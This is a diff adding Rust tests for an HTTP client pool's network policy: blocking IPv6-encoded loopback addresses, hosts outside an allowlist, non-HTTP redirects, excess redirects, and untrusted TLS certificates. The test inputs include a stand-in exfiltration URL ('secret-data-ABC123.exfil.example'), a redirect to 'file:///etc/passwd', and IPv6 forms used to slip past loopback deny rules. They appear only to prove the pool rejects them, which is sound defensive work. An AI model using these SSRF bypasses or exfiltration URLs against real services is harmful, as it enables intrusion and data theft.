@@ -190,3 +190,176 @@ fn connections_are_reused_and_bounded() {
     }
     assert_eq!(notified.load(std::sync::atomic::Ordering::Relaxed), 400);
 }
+
+#[test]
+fn ipv6_forms_of_a_denied_ipv4_network_are_refused() {
+    // a server on [::] (reached by `::`, `::ffff:127.0.0.1` and 127.0.0.1 on Linux)
+    let srv = Server::start_at("[::]:0");
+    let port = srv.port;
+    // denied: "this host" and loopback as IPv4 networks only; `::` is 0.0.0.0 in IPv4-compatible
+    // form, `::ffff:127.0.0.1` is 127.0.0.1 mapped
+    let pool = Pool::new(
+        2,
+        Policy::parse("", "0.0.0.0/8, 127.0.0.0/8").unwrap(),
+        Box::new(|| {}),
+    );
+    for host in [
+        "[::]",
+        "[::ffff:127.0.0.1]",
+        "[::ffff:0.0.0.0]",
+        "127.0.0.1",
+    ] {
+        let rep = one(&pool, req(1, "GET", format!("http://{host}:{port}/ok")));
+        let f = rep.result.unwrap_err();
+        assert_eq!(f.kind, FailureKind::Policy, "{host}: {f:?}");
+        assert!(f.message.contains("denied network"), "{host}: {f:?}");
+    }
+    // and the default networks
+    pool.set_policy(Policy::parse("", DEFAULT_DENIED).unwrap());
+    for host in [
+        "[::]",
+        "[::ffff:127.0.0.1]",
+        "[::1]",
+        "[::127.0.0.1]",
+        "[64:ff9b::7f00:1]",
+    ] {
+        let rep = one(&pool, req(2, "GET", format!("http://{host}:{port}/ok")));
+        assert_eq!(rep.result.unwrap_err().kind, FailureKind::Policy, "{host}");
+    }
+    assert!(srv.seen("/ok").is_empty(), "no request arrived");
+    // an explicitly allowed loopback host still works
+    pool.set_policy(allow_local());
+    let rep = one(&pool, req(3, "GET", format!("http://127.0.0.1:{port}/ok")));
+    assert_eq!(rep.result.unwrap().status, 200);
+}
+
+#[test]
+fn a_host_not_in_the_allowlist_is_refused_before_any_dns_lookup() {
+    let srv = Server::start();
+    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
+    // a name that does not resolve (.example): looked up first, it would fail as a DNS error
+    let rep = one(
+        &pool,
+        req(1, "GET", "http://secret-data-ABC123.exfil.example/x".into()),
+    );
+    let f = rep.result.unwrap_err();
+    assert_eq!(f.kind, FailureKind::Policy, "{f:?}");
+    assert!(
+        f.message.contains(
+            "host \"secret-data-abc123.exfil.example\" is not in pulse.http_allowed_hosts"
+        ),
+        "{f:?}"
+    );
+    // the same on a redirect
+    let mut r = req(
+        2,
+        "GET",
+        srv.url("/goto?to=http://secret-data-DEF456.exfil.example/y"),
+    );
+    r.follow_redirects = true;
+    let f = one(&pool, r).result.unwrap_err();
+    assert_eq!(f.kind, FailureKind::Policy, "{f:?}");
+    assert!(
+        f.message.contains("not in pulse.http_allowed_hosts"),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn redirects_to_other_schemes_fail_cleanly() {
+    let srv = Server::start();
+    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
+    for (to, says) in [
+        ("file:///etc/passwd", "a redirect uses the scheme \"file\""),
+        ("data:text/plain,hi", "a redirect uses the scheme \"data\""),
+        ("ftp://127.0.0.1/x", "a redirect uses the scheme \"ftp\""),
+        ("http://[::1/x", "a redirect is not a valid URL"),
+    ] {
+        let mut r = req(1, "GET", srv.url(&format!("/goto?to={to}")));
+        r.follow_redirects = true;
+        let rep = one(&pool, r);
+        let f = rep.result.unwrap_err();
+        assert_eq!(f.kind, FailureKind::Protocol, "{to}: {f:?}");
+        assert!(f.message.contains(says), "{to}: {f:?}");
+        assert!(!f.message.contains("internal error"), "{to}: {f:?}");
+    }
+    // not followed: the redirect itself is the response
+    let rep = one(&pool, req(2, "GET", srv.url("/goto?to=file:///etc/passwd")));
+    assert_eq!(rep.result.unwrap().status, 302);
+    // an invalid URL handed to the pool fails cleanly too
+    let f = one(&pool, req(3, "GET", "http://[::1/x".into()))
+        .result
+        .unwrap_err();
+    assert!(f.message.contains("not a valid URL"), "{f:?}");
+}
+
+#[test]
+fn up_to_five_redirects_are_followed_without_credentials() {
+    let srv = Server::start();
+    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
+    let mut r = req(1, "GET", srv.url("/hops/5"));
+    r.follow_redirects = true;
+    let resp = one(&pool, r).result.unwrap();
+    assert_eq!((resp.status, resp.body.as_slice()), (200, &b"arrived"[..]));
+    let mut r = req(2, "GET", srv.url("/hops/6"));
+    r.follow_redirects = true;
+    let f = one(&pool, r).result.unwrap_err();
+    assert!(f.message.contains("more than 5 redirects"), "{f:?}");
+    // a POST redirected by a 302 becomes a GET without body; Authorization is not passed on
+    let mut r = req(3, "POST", srv.url("/goto?to=/echo"));
+    r.follow_redirects = true;
+    r.body = Some(b"payload".to_vec());
+    r.headers
+        .push(("Authorization".into(), "Bearer tok".into()));
+    let resp = one(&pool, r).result.unwrap();
+    assert_eq!(resp.status, 200);
+    let seen = srv.seen("/echo");
+    assert_eq!(seen[0].method, "GET");
+    assert!(seen[0].body.is_empty());
+    assert_eq!(seen[0].header("authorization"), None);
+    assert_eq!(seen[0].header("x-key"), Some("v1"));
+}
+
+#[test]
+fn https_trusts_the_system_roots_and_pulse_http_ca_file() {
+    use pulse_e2e::tls_server::TlsServer;
+    let tls = TlsServer::start();
+    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
+    // its CA is not among the system's roots: a certificate error, not retried
+    let rep = one(&pool, req(1, "GET", tls.url("/x")));
+    let f = rep.result.unwrap_err();
+    assert_eq!(f.kind, FailureKind::Protocol, "{f:?}");
+    assert!(
+        f.message.contains("TLS handshake failed") && f.message.contains("certificate"),
+        "{f:?}"
+    );
+    assert_eq!(tls.served(), 0);
+    // with the CA file: it works
+    pool.set_ca_file(tls.ca_file.to_str()).unwrap();
+    let rep = one(&pool, req(2, "GET", tls.url("/x")));
+    let resp = rep.result.unwrap();
+    assert_eq!((resp.status, resp.body.as_slice()), (200, &b"secure"[..]));
+    assert_eq!(tls.served(), 1);
+    // an unreadable file: HTTPS requests say why and are not sent; plain HTTP still works
+    let e = pool.set_ca_file(Some("/nonexistent/ca.pem")).unwrap_err();
+    assert!(
+        e.contains("pulse.http_ca_file \"/nonexistent/ca.pem\" cannot be read"),
+        "{e}"
+    );
+    let f = one(&pool, req(3, "GET", tls.url("/x"))).result.unwrap_err();
+    assert_eq!(f.kind, FailureKind::NotSent, "{f:?}");
+    assert!(f.message.contains("pulse.http_ca_file"), "{f:?}");
+    let srv = Server::start();
+    assert_eq!(
+        one(&pool, req(4, "GET", srv.url("/ok")))
+            .result
+            .unwrap()
+            .status,
+        200
+    );
+    // back to no file: the system's roots only
+    pool.set_ca_file(None).unwrap();
+    let f = one(&pool, req(5, "GET", tls.url("/x"))).result.unwrap_err();
+    assert!(f.message.contains("TLS handshake failed"), "{f:?}");
+    assert_eq!(tls.served(), 1);
+}
